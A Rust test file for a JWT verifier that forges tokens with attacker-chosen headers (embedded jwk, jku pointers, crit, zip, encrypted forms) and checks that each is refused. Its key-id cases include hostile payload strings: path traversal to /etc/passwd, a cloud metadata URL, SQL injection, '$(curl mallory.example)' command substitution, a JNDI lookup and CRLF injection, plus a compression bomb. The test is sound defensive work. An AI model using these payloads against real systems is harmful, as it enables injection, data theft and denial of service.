//! C: header members that point at keys or change what the token means, and other kinds of token.

use std::io::Write as _;

use flate2::Compression;
use flate2::write::DeflateEncoder;
use portcullis::testing::{AUDIENCE, TokenBuilder};
use portcullis::{Algorithm, TokenType, Verifier};
use serde_json::{Value, json};

use super::forge::{encode, with_part};
use super::target::jwk_of;
use super::{Case, Target, check, check_with};
use crate::support::{discovered, reason};

pub(super) fn cases(target: &Target) -> Vec<Case> {
    [
        own_key(target),
        pointers(target, "https://mallory.example/keys"),
        key_ids(target),
        critical(target),
        unencoded(target),
        compressed(target),
        other_types(target),
        encrypted(target),
    ]
    .concat()
}

fn own_key(target: &Target) -> Vec<Case> {
    let mut cases = Vec::new();
    for algorithm in [Algorithm::Es256, Algorithm::Rs256, Algorithm::EdDsa] {
        let jwk = jwk_of(&target.mallory, algorithm);
        let forged = target.forged().algorithm(algorithm);
        for (shape, jwk) in [("", jwk.clone()), (" as text", jwk.to_string().into())] {
            let forged = forged.clone().header("jwk", jwk);
            let ours = target.key_id(algorithm);
            for (kid, token, reason) in [
                ("its kid", forged.clone(), "unknown_key"),
                ("our kid", forged.clone().key_id(&ours), "invalid_signature"),
                ("no kid", forged.without_key_id(), "invalid_signature"),
            ] {
                let what = format!("jwk{shape} for {algorithm} under {kid}");
                cases.push(Case::new(what, token.sign(), reason));
            }
        }
    }
    cases
}

#[test]
fn c1_a_token_does_not_bring_its_key() {
    let target = Target::shared();
    check(&own_key(target), 18);
    // One that is rightly signed is none the worse for it.
    let theirs = jwk_of(&target.mallory, Algorithm::Es256);
    let outcome = target
        .verifier
        .verify_now(&target.token().header("jwk", theirs).sign());
    assert_eq!(reason(&outcome), "accepted");
}

/// The members that say where a key is, each with what mallory would put there.
fn pointing(base: &str) -> [(&'static str, Value); 8] {
    [
        ("jku", json!(format!("{base}/jwks.json"))),
        ("x5u", json!(format!("{base}/chain.pem"))),
        ("x5c", json!([base])),
        ("x5t", json!(encode([7; 20]))),
        ("x5t#S256", json!(encode([7; 32]))),
        ("jwks_uri", json!(base)),
        ("iss", json!(base)),
        ("url", json!(base)),
    ]
}

fn pointers(target: &Target, base: &str) -> Vec<Case> {
    let ours = target.key_id(Algorithm::Es256);
    pointing(base)
        .into_iter()
        .flat_map(|(name, value)| {
            let forged = target.forged().header(name, value);
            [
                Case::new(
                    format!("{name} under its kid"),
                    forged.clone().sign(),
                    "unknown_key",
                ),
                Case::new(
                    format!("{name} under our kid"),
                    forged.key_id(&ours).sign(),
                    "invalid_signature",
                ),
            ]
        })
        .collect()
}

#[tokio::test]
async fn c2_nobody_asks_what_a_header_points_at() {
    let target = Target::shared();
    let trap = super::target::Trap::set().await;
    // One with keys at hand, and one that would know how to fetch.
    let fetching = Verifier::builder()
        .issuer(discovered(&target.issuer))
        .clock(target.clock.clone())
        .build()
        .unwrap();
    let cases = pointers(target, &trap.url());
    check(&cases, 16);
    check_with(&target.verifier, &cases);
    for case in &cases {
        let outcome = fetching.verify(&case.token).await;
        assert_eq!(reason(&outcome), case.reason, "{}", case.what);
    }
    for (name, value) in pointing(&trap.url()) {
        let token = target.token().header(name, value).sign();
        let outcome = fetching.verify(&token).await;
        assert_eq!(reason(&outcome), "accepted", "rightly signed, with {name}");
    }
    trap.must_be_untouched().await;
}

fn key_ids(target: &Target) -> Vec<Case> {
    let texts = [
        "",
        "/dev/null",
        "../../../../dev/null",
        "../../../etc/passwd",
        r"..\..\windows\win.ini",
        "file:///proc/sys/kernel/randomize_va_space",
        "https://mallory.example/key",
        "http://169.254.169.254/latest/meta-data",
        "' OR '1'='1",
        "x' UNION SELECT 'secret';--",
        "|sleep 10",
        "$(curl mallory.example)",
        "${jndi:ldap://mallory.example/a}",
        "*",
        ".*",
        "__proto__",
        "key\0",
        "key\r\nSet-Cookie: a=b",
        "\u{1b}[31mkey\u{1b}[0m",
        "\u{202e}yek",
        "\u{feff}key",
    ];
    let unknown = texts
        .into_iter()
        .map(str::to_owned)
        .chain(["k".repeat(256)])
        .map(|kid| {
            let token = target.token().key_id(&kid).sign();
            Case::new(format!("kid {kid:?}"), token, "unknown_key")
        });
    // Nearly ours is not ours.
    let ours = target.key_id(Algorithm::Es256);
    let near = [
        format!("{ours} "),
        format!(" {ours}"),
        format!("{ours}\0"),
        ours.to_uppercase(),
        ours[1..].to_owned(),
    ]
    .map(|kid| {
        let token = target.token().key_id(&kid).sign();
        Case::new(format!("kid {kid:?}"), token, "unknown_key")
    });
    let long = [257, 2_000, 100_000].map(|length| {
        let token = target.token().key_id(&"k".repeat(length)).sign();
        Case::new(format!("kid of {length} bytes"), token, "too_large")
    });
    let others = [
        json!(null),
        json!(true),
        json!(7),
        json!([&ours]),
        json!({ "kid": &ours }),
    ];
    let others = others.map(|kid| {
        let token = target.token().header("kid", &kid).sign();
        Case::new(format!("kid {kid}"), token, "malformed")
    });
    let lone = target
        .token()
        .raw_header(r#"{"alg":"ES256","kid":"\ud800"}"#);
    unknown
        .chain(near)
        .chain(long)
        .chain(others)
        .chain([Case::new(
            "kid of half a character",
            lone.sign(),
            "malformed",
        )])
        .collect()
}

#[test]
fn c3_a_kid_is_an_opaque_name() {
    check(&key_ids(Target::shared()), 36);
}

fn critical(target: &Target) -> Vec<Case> {
    let values = [
        json!(["exp"]),
        json!(["b64"]),
        json!(["alg"]),
        json!(["kid", "typ"]),
        json!(["http://mallory.example/extension"]),
        json!(["x", "x"]),
        json!([""]),
        json!([]),
        json!([7]),
        json!(null),
        json!("exp"),
        json!({}),
        json!(false),
    ];
    let mut cases: Vec<_> = values
        .into_iter()
        .map(|crit| {
            let token = target.token().header("crit", &crit).header("exp", 1);
            Case::new(format!("crit {crit}"), token.sign(), "unsupported_critical")
        })
        .collect();
    let escaped = format!(
        r#"{{"alg":"ES256","kid":"{}","\u0063rit":["x"],"x":1}}"#,
        target.key_id(Algorithm::Es256)
    );
    let token = target.token().raw_header(escaped).sign();
    cases.push(Case::new(
        "crit with an escape",
        token,
        "unsupported_critical",
    ));
    cases
}

#[test]
fn c4_whatever_is_critical_is_refused() {
    check(&critical(Target::shared()), 14);
}

fn unencoded(target: &Target) -> Vec<Case> {
    let mut cases = Vec::new();
    for b64 in [json!(false), json!(true), json!(null), json!("false")] {
        for crit in [true, false] {
            let token = target.token().header("b64", &b64);
            let token = if crit {
                token.header("crit", ["b64"])
            } else {
                token
            };
            let token = token.sign();
            let what = format!("b64 {b64}, in crit: {crit}");
            cases.push(Case::new(&what, token.clone(), "unsupported_critical"));
            // Detached, as RFC 7797 uses it.
            let detached = with_part(&token, 1, "");
            cases.push(Case::new(what, detached, "unsupported_critical"));
        }
    }
    let detached = with_part(&target.good(), 1, "");
    cases.push(Case::new("a detached payload", detached, "malformed"));
    cases
}

#[test]
fn c5_the_payload_is_what_is_encoded() {
    check(&unencoded(Target::shared()), 17);
}

fn deflated(text: &[u8]) -> Vec<u8> {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(text).unwrap();
    encoder.finish().unwrap()
}

fn compressed(target: &Target) -> Vec<Case> {
    let iss = target.issuer.issuer();
    let claims = json!({ "iss": iss, "aud": AUDIENCE, "exp": super::target::NOW + 60 }).to_string();
    let bomb = deflated(&vec![b' '; 10 << 20]);
    let zip = |token: TokenBuilder| token.header("zip", "DEF").sign();
    vec![
        Case::new(
            "zip",
            zip(target.token().raw_payload(deflated(claims.as_bytes()))),
            "unsupported_critical",
        ),
        Case::new(
            "zip with 10 MiB inside",
            zip(target.token().raw_payload(bomb)),
            "unsupported_critical",
        ),
        Case::new(
            "zip that is none",
            zip(target.token()),
            "unsupported_critical",
        ),
        Case::new(
            "zip null",
            target.token().header("zip", Value::Null).sign(),
            "unsupported_critical",
        ),
        Case::new(
            "compressed without zip",
            target
                .token()
                .raw_payload(deflated(claims.as_bytes()))
                .sign(),
            "malformed",
        ),
    ]
}

#[test]
fn c6_nothing_is_inflated() {
    let cases = compressed(Target::shared());
    assert!(cases[1].token.len() < 16 << 10, "the bomb fits");
    check(&cases, 5);
}

fn other_types(target: &Target) -> Vec<Case> {
    let types = [
        "dpop+jwt",
        "DPoP+JWT",
        "logout+jwt",
        "secevent+jwt",
        "application/secevent+jwt",
        "token-introspection+jwt",
        "oauth-authz-req+jwt",
        "openid4vci-proof+jwt",
        "entity-statement+jwt",
        "vc+sd-jwt",
        "JOSE",
        "jwt ",
        "at+jwt, JWT",
        "",
    ];
    let mut cases: Vec<_> = types
        .into_iter()
        .map(|typ| {
            let token = target.token().token_type(typ).sign();
            Case::new(format!("typ {typ:?}"), token, "wrong_type")
        })
        .collect();
    for (claim, value) in [
        ("at_hash", json!("x")),
        ("c_hash", json!("x")),
        ("events", json!({})),
    ] {
        let token = target.token().token_type("JWT").claim(claim, value).sign();
        cases.push(Case::new(format!("with {claim}"), token, "wrong_type"));
    }
    let id_token = target
        .token()
        .token_type("JWT")
        .audience("client-id")
        .claim("nonce", "n-0S6_WzA2Mj");
    cases.push(Case::new(
        "an ID token",
        id_token.sign(),
        "audience_mismatch",
    ));
    let typ = target.token().header("typ", ["at+jwt"]).sign();
    cases.push(Case::new("typ that is no text", typ, "malformed"));
    cases
}

#[test]
fn c7_another_kind_of_token_is_no_access_token() {
    let target = Target::shared();
    check(&other_types(target), 19);
    // Where the profile of RFC 9068 is demanded, an ID token for this very audience is none either.
    let strict = target.verifier_that(|issuer| issuer.token_type(TokenType::AccessToken));
    for typ in [Some("JWT"), None] {
        let token = match typ {
            Some(typ) => target.token().token_type(typ),
            None => target.token().without_token_type(),
        };
        check_with(
            &strict,
            &[Case::new("an ID token", token.sign(), "wrong_type")],
        );
    }
}

fn encrypted(target: &Target) -> Vec<Case> {
    let part = encode([7; 24]);
    let mut cases = Vec::new();
    for (alg, more) in [
        ("RSA-OAEP", json!({})),
        ("RSA1_5", json!({})),
        ("dir", json!({})),
        ("A128KW", json!({})),
        (
            "ECDH-ES",
            json!({ "epk": { "kty": "EC", "crv": "P-256", "x": "", "y": "" } }),
        ),
        (
            "PBES2-HS256+A128KW",
            json!({ "p2s": part, "p2c": i32::MAX }),
        ),
        ("none", json!({ "zip": "DEF" })),
        ("ES256", json!({ "cty": "JWT" })),
    ] {
        let mut header =
            json!({ "alg": alg, "enc": "A256GCM", "kid": target.key_id(Algorithm::Es256) });
        header
            .as_object_mut()
            .unwrap()
            .extend(more.as_object().unwrap().clone());
        let header = encode(header.to_string());
        let five = format!("{header}.{part}.{part}.{part}.{part}");
        cases.push(Case::new(format!("JWE of {alg}"), five, "malformed"));
    }
    let good = target.good();
    for parts in [4, 5, 6, 100] {
        let token = format!("{good}{}", format!(".{part}").repeat(parts - 3));
        cases.push(Case::new(format!("{parts} parts"), token, "malformed"));
    }
    let nested = target.token().header("cty", "JWT").raw_payload(good);
    cases.push(Case::new("a token in a token", nested.sign(), "malformed"));
    cases
}

#[test]
fn c8_an_encrypted_or_nested_token_is_none() {
    check(&encrypted(Target::shared()), 13);
}

/// A header may demand work beyond measure; it is not even decoded.
#[test]
fn c9_a_header_cannot_demand_work() {
    let target = Target::shared();
    let cases = encrypted(target);
    let expensive = cases.iter().find(|case| case.what.contains("PBES2"));
    let token = &expensive.unwrap().token;
    let times = 1_000;
    #[expect(clippy::disallowed_methods, reason = "a measurement")]
    let started = std::time::Instant::now();
    for _ in 0..times {
        assert_eq!(reason(&target.verifier.verify_now(token)), "malformed");
    }
    #[expect(clippy::disallowed_methods, reason = "a measurement")]
    let took = started.elapsed();
    assert!(took.as_millis() < times, "{took:?} for {times}");
}
